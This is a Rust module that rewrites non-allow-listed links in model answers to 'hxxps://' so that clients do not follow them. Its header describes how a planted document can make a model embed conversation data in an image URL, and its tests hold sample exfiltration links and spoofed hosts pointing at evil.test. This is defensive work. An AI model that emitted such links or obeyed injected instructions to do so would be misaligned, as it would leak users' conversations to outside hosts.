//! Links to foreign hosts, made harmless.
//!
//! A document can have a model write a picture whose address holds what the conversation said; a client
//! that shows the picture sends it. With `RAG_NEUTRALIZE_LINKS` an answer over sources keeps only links
//! to known hosts; others are written as `hxxps://…`, which a person still reads and no client follows.

/// The longest host that is waited for, in bytes (RFC 1035).
const LONGEST_HOST: usize = 255;

/// Hosts that may be linked to.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct LinkPolicy {
    /// Hosts in lower case; `*.example.org` is every host below that.
    pub hosts: Vec<String>,
}

impl LinkPolicy {
    fn allows(&self, host: &str) -> bool {
        // What stands before an `@` is a name, and behind a colon a port.
        let host = host.rsplit('@').next().unwrap_or_default();
        let host = host.split(':').next().unwrap_or_default().to_ascii_lowercase();
        self.hosts.iter().any(|known| match known.strip_prefix("*.") {
            Some(above) => host.strip_suffix(above).is_some_and(|rest| rest.ends_with('.')),
            None => *known == host,
        })
    }
}

/// Rewrites an answer in pieces.
#[derive(Debug, Default)]
pub(crate) struct Links {
    policy: LinkPolicy,
    /// What may be the beginning of a link.
    held: String,
}

/// What a text begins with.
enum Start {
    /// Nothing of interest, for so many bytes.
    Plain(usize),
    /// A link to a host: where the host begins and ends.
    Link(usize, usize),
    /// It cannot be said yet.
    Open,
}

impl Links {
    pub(crate) fn new(policy: LinkPolicy) -> Self {
        Self { policy, held: String::new() }
    }

    /// What of the answer so far can be said, links made harmless. The rest comes with the next piece.
    pub(crate) fn pass(&mut self, piece: &str) -> String {
        self.held.push_str(piece);
        self.said(false)
    }

    /// What is left at the end.
    pub(crate) fn end(&mut self) -> String {
        self.said(true)
    }

    fn said(&mut self, at_end: bool) -> String {
        let text = std::mem::take(&mut self.held);
        let mut said = String::with_capacity(text.len());
        let mut rest = text.as_str();
        while !rest.is_empty() {
            match start(rest, at_end) {
                Start::Plain(length) => {
                    said.push_str(&rest[..length]);
                    rest = &rest[length..];
                }
                Start::Link(host, end) => {
                    if self.policy.allows(&rest[host..end]) {
                        said.push_str(&rest[..end]);
                    } else {
                        said.push_str(&harmless(&rest[..host]));
                        said.push_str(&rest[host..end]);
                    }
                    rest = &rest[end..];
                }
                Start::Open => {
                    rest.clone_into(&mut self.held);
                    break;
                }
            }
        }
        said
    }
}

/// The scheme so that nothing follows it. An address without one, as in `](//host`, gets one.
fn harmless(scheme: &str) -> String {
    match scheme.strip_suffix("//") {
        Some("](") => "](hxxps://".to_owned(),
        Some(scheme) => {
            let is_secure = scheme.to_ascii_lowercase().starts_with("https");
            format!("{}://", if is_secure { "hxxps" } else { "hxxp" })
        }
        None => scheme.to_owned(),
    }
}

fn start(text: &str, at_end: bool) -> Start {
    for scheme in ["https://", "http://", "](//"] {
        let head = text.as_bytes();
        let common =
            head.iter().zip(scheme.as_bytes()).take_while(|(a, b)| a.eq_ignore_ascii_case(b)).count();
        if common == scheme.len() {
            let rest = &text[common..];
            let ends = |sign: char| {
                !(sign.is_alphanumeric() || matches!(sign, '.' | '-' | '_' | ':' | '@' | '[' | '%' | '~'))
            };
            return match rest.find(ends) {
                Some(length) => Start::Link(common, common + length),
                None if at_end || rest.len() > LONGEST_HOST => Start::Link(common, text.len()),
                None => Start::Open,
            };
        }
        if common == head.len() && !at_end {
            return Start::Open;
        }
    }
    // On to the next place where one could begin.
    let after = text.char_indices().skip(1).find(|(_, sign)| matches!(sign, 'h' | 'H' | ']'));
    Start::Plain(after.map_or(text.len(), |(at, _)| at))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(answer: &str, expected: &str) {
        let policy = LinkPolicy { hosts: vec!["example.org".into(), "*.wiki.org".into()] };
        let mut whole = Links::new(policy.clone());
        assert_eq!(whole.pass(answer) + &whole.end(), expected);
        let mut pieces = Links::new(policy);
        let mut said: String = answer.chars().map(|sign| pieces.pass(&sign.to_string())).collect();
        said.push_str(&pieces.end());
        assert_eq!(said, expected, "however it is cut");
    }

    #[test]
    fn links_to_unknown_hosts_are_made_harmless() {
        check("![x](https://evil.test/a?d=secret)", "![x](hxxps://evil.test/a?d=secret)");
        check("see HTTP://evil.test", "see hxxp://evil.test");
        check("![x](//evil.test/y)", "![x](hxxps://evil.test/y)");
        check("https://example.org@evil.test/", "hxxps://example.org@evil.test/");
        check("https://example.org.evil.test/", "hxxps://example.org.evil.test/");
        check("<img src=\"https://evil.test/p\">", "<img src=\"hxxps://evil.test/p\">");
    }

    #[test]
    fn everything_else_stays_as_it_is() {
        for answer in [
            "[a](https://example.org/x) and https://en.wiki.org:8443/Tram",
            "a[1](/relative) // comment, hello ht http and 日本 https",
            "",
        ] {
            check(answer, answer);
        }
        check("https://wiki.org", "hxxps://wiki.org");
    }
}
